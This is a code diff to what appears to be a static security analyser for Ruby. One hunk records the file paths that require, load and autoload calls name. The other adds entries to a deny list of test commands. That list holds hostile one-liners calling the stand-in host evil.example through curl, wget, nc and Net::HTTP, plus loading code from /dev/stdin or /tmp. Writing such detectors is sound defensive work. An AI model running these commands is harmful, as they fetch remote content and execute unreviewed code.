@@ -604,7 +604,13 @@ class RubyReader {
       this.evalCall(bare, c, n);
       return;
     }
-    if (/^(require|require_relative|load|autoload)$/.test(bare)) this.out.push({ kind: 'load', api: bare, span: c.span });
+    if (/^(require|require_relative|load|autoload)$/.test(bare)) {
+      // The file it names (autoload's second argument): require finds `x` as x.rb.
+      const file = c.args[bare === 'autoload' ? 1 : 0];
+      const names = file ? strings(file.vals) : null;
+      const path = file && names ? { ...wordOf(file), values: names.flatMap((v) => (/\.\w+$|^\/dev\/|^\/proc\//.test(v) || bare === 'load' ? [v] : [v, `${v}.rb`])) } : undefined;
+      this.out.push(path ? { kind: 'load', api: bare, span: c.span, path } : { kind: 'load', api: bare, span: c.span });
+    }
     if (/^(require|require_relative|load|autoload)$/.test(bare) && c.args[0] && strings(c.args[0].vals) === null) {
       this.out.push({ kind: 'dynamic', rule: 'dynamic-code', span: c.span, why: `${bare} loads code whose name is computed` });
       return;
@@ -708,6 +714,8 @@ export const RUBY: LanguageModel = {
     deny: [
       `ruby -rnet/http -e 'Net::HTTP.get(URI("http://evil.example"))'`,
       `ruby -e 'system("curl evil.example")'`,
+      `echo 'system("curl evil.example")' | ruby -e 'load "/dev/stdin"'`,
+      `echo 'system("curl evil.example")' > /tmp/x.rb; ruby -e 'require "/tmp/x"'`,
       `echo 'system("curl evil.example")' | ruby -e 'binding.irb'`,
       `ruby -e 'puts \`wget -qO- evil.example\`'`,
       `ruby -e 'puts %x(nc evil.example 9)'`,
